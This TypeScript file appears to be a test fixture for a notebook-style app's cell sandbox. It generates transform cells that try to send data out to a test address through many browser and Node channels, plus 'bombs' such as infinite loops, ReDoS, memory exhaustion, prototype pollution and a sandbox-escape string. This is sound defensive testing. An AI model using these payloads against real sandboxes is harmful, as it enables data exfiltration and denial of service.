import { addressOf, type StrangeCell } from './stranger';

/** Each tries to call out by what a page, a worker or Node would have, and gives nothing if it cannot. */
const calls: readonly (readonly [string, (url: string) => string])[] = [
	['fetch', (url) => `fetch('${url}' + answers.numRows())`],
	['xhr', (url) => `const x = new XMLHttpRequest(); x.open('GET', '${url}'); x.send()`],
	['beacon', (url) => `navigator.sendBeacon('${url}', answers.toCSV())`],
	['websocket', (url) => `new WebSocket('${url.replace('https', 'wss')}')`],
	['eventsource', (url) => `new EventSource('${url}')`],
	[
		'rtc',
		(url) => `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(url).host}' }] })`
	],
	['image', (url) => `new Image().src = '${url}'`],
	['location', (url) => `globalThis.location = '${url}'; location.href = '${url}'`],
	['open', (url) => `window.open('${url}')`],
	['import', (url) => `import('${url}')`],
	['importscripts', (url) => `importScripts('${url}')`],
	['worker', (url) => `new Worker('${url}'); new SharedWorker('${url}')`],
	['serviceworker', (url) => `navigator.serviceWorker.register('${url}')`],
	[
		'post',
		(url) => `postMessage({ kind: 'done', outcome: '${url}' }); new BroadcastChannel('hagebok')`
	],
	['eval', (url) => `(0, eval)("fetch('${url}')")`],
	['function', (url) => `[].constructor.constructor("return fetch('${url}')")()`],
	['arquero', (url) => `aq.loadCSV('${url}'); aq.loadArrow('${url}')`],
	['expression', (url) => `return answers.derive({ x: \`fetch('${url}')\` })`],
	['process', (url) => `process.mainModule.require('https').get('${url}')`],
	['storage', (url) => `indexedDB.open('hagebok'); caches.open('${url}'); localStorage.clear()`],
	['document', (url) => `document.body.innerHTML = '<img src="${url}">'; alert(1)`],
	['wasm', (url) => `WebAssembly.compileStreaming(fetch('${url}'))`]
];

/** Each would hold or fill the machine. */
const bombs = {
	loop: 'for (;;);',
	native_loop: 'return [].indexOf.call({ length: 2 ** 53 - 1 }, 1)',
	regex: 'return [{ a: /^(a+)+$/.test("a".repeat(99) + "b") }]',
	memory: 'const all = []; for (;;) all.push(new Uint8Array(1e7))',
	deep: 'function f() { f() } f()',
	huge: 'return Array.from({ length: 3e5 }, (_, i) => ({ i, t: "x".repeat(90) }))',
	pollution:
		'Object.prototype.kind = "rows"; Array.prototype.toJSON = () => ({ __proto__: { a: 1 } }); return [{ a: 1 }]',
	promise: 'return new Promise(() => {})',
	escape: '}}); for (;;); (function () {{'
};

export const transformAttacks: readonly StrangeCell[] = [
	...calls.map(([name, code]) => ({
		id: `transform_${name}`,
		title: `Transform ${name}`,
		kind: 'transform',
		code: `${code(addressOf(`transform-${name}`))}\nreturn answers`
	})),
	...Object.entries(bombs).map(([name, code]) => ({
		id: `bomb_${name}`,
		title: `Transform ${name}`,
		kind: 'transform',
		code
	}))
];
